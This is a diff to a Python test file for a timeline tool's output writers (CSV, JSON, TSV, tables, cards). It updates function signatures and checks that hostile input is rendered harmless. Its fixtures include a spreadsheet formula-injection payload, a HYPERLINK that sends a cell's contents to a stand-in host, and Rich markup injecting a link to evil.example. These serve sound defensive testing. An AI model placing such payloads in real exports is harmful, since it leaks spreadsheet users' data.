@@ -5,16 +5,16 @@ import io
 import json
 
 import pytest
-from tests.conftest import HOSTILE, SMALL
+from tests.conftest import HOSTILE, SMALL, everything
 
 from timeline.document import dumps
 from timeline.model import Log
-from timeline.query import find_event, related_events
+from timeline.query import find_event
 from timeline.render.card import write_card_rich
 from timeline.render.card_content import card_content, write_card_text
-from timeline.render.csv_out import defuse, undefuse, write_csv
-from timeline.render.dates import compact, interval, spelled
+from timeline.render.delimited import defuse, undefuse, write_csv
 from timeline.render.json_out import write_json, write_jsonl
+from timeline.render.phrases import compact, interval, spelled
 from timeline.render.records import COLUMNS
 from timeline.render.sanitize import for_terminal, one_line
 from timeline.render.table import write_table
@@ -80,7 +80,7 @@ def test_ordinary_cells_are_untouched(plain: str) -> None:
 def test_csv_has_a_lowercase_header_and_one_row_per_event() -> None:
     log = load_log(SMALL)
     out = io.StringIO()
-    write_csv(log.events, log, out)
+    write_csv(everything(log), out)
     rows = list(csv.DictReader(io.StringIO(out.getvalue())))
     assert list(rows[0]) == list(COLUMNS)
     assert all(name == name.lower() for name in COLUMNS)
@@ -108,8 +108,8 @@ def test_csv_has_a_lowercase_header_and_one_row_per_event() -> None:
 def test_csv_of_the_hostile_log_has_no_live_formula_and_raw_keeps_them() -> None:
     log = load_log(HOSTILE)
     safe, raw = io.StringIO(), io.StringIO()
-    write_csv(log.events, log, safe)
-    write_csv(log.events, log, raw, raw=True)
+    write_csv(everything(log), safe)
+    write_csv(everything(log), raw, raw=True)
     cells = [cell for row in csv.reader(io.StringIO(safe.getvalue())) for cell in row]
     assert not [c for c in cells if c[:1] in set("=+-@\t\r\n＝＋－＠")]
     assert '\'=HYPERLINK("http://x.invalid/?"&A1,"source")' in cells
@@ -120,7 +120,7 @@ def test_csv_of_the_hostile_log_has_no_live_formula_and_raw_keeps_them() -> None
 def test_json_keeps_values_exactly_and_escapes_terminal_controls() -> None:
     log = load_log(HOSTILE)
     out = io.StringIO()
-    write_json(log.events, out)
+    write_json(everything(log), out)
     text = out.getvalue()
     assert_terminal_safe(text)
     assert [e["title"] for e in json.loads(text)] == [e.title for e in log.events]
@@ -130,14 +130,14 @@ def test_json_keeps_values_exactly_and_escapes_terminal_controls() -> None:
 def test_jsonl_is_one_event_per_line() -> None:
     log = load_log(SMALL)
     out = io.StringIO()
-    write_jsonl(log.events, out)
+    write_jsonl(everything(log), out)
     lines = out.getvalue().splitlines()
     assert [json.loads(line)["id"] for line in lines] == [e.id for e in log.events]
 
 
 def test_json_of_no_events_is_an_empty_array() -> None:
     out = io.StringIO()
-    write_json([], out)
+    write_json(everything(load_log(SMALL), []), out)
     assert json.loads(out.getvalue()) == []
 
 
@@ -149,10 +149,10 @@ def test_dates_are_shown_at_their_precision() -> None:
     ] == [
         "2019-02-27–28",
         "2022",
-        "~2023-09 – 2024-06",
+        "2023-09~ – 2024-06~",
         "2023-08",
     ]
-    assert interval(by_id["arms-2023"]) == "2023-09/2024-06~"
+    assert interval(by_id["arms-2023"]) == "2023-09~/2024-06~"
     assert spelled(by_id["launches-2022"]) == "2022 (known to the year)"
     assert spelled(by_id["hanoi-2019"]) == "2019-02-27 – 2019-02-28"
 
@@ -160,7 +160,7 @@ def test_dates_are_shown_at_their_precision() -> None:
 def test_tsv_lines_are_plain_and_complete() -> None:
     log = load_log(SMALL)
     out = io.StringIO()
-    write_tsv(log.events[:2], out)
+    write_tsv(everything(log, log.events[:2]), out)
     assert out.getvalue().splitlines()[1] == (
         "2019-02-27/2019-02-28\thanoi-2019\tHanoi summit ends without agreement"
         "\tDPRK,USA,kim-jong-un,donald-trump\tsummit"
@@ -170,7 +170,7 @@ def test_tsv_lines_are_plain_and_complete() -> None:
 def cards(log: Log, event_id: str) -> tuple[str, str]:
     """The card of one event as plain text and as Rich lays it out off a terminal."""
     event = find_event(log, event_id)
-    content = card_content(event, log, related_events(log, event))
+    content = card_content(event, everything(log, [event]))
     plain, rich = io.StringIO(), io.StringIO()
     write_card_text(content, plain)
     write_card_rich(content, rich)
@@ -186,7 +186,7 @@ def test_the_plain_card_and_the_rich_card_agree(event_id: str) -> None:
 def test_hostile_text_in_table_and_card_is_visible_and_inert() -> None:
     log = load_log(HOSTILE)
     table = io.StringIO()
-    write_table(log.events, table)
+    write_table(everything(log), table)
     assert (
         "[link=https://evil.example]x[/link] [bold]B closing [/Pattern] tag :smile:"
         in table.getvalue()
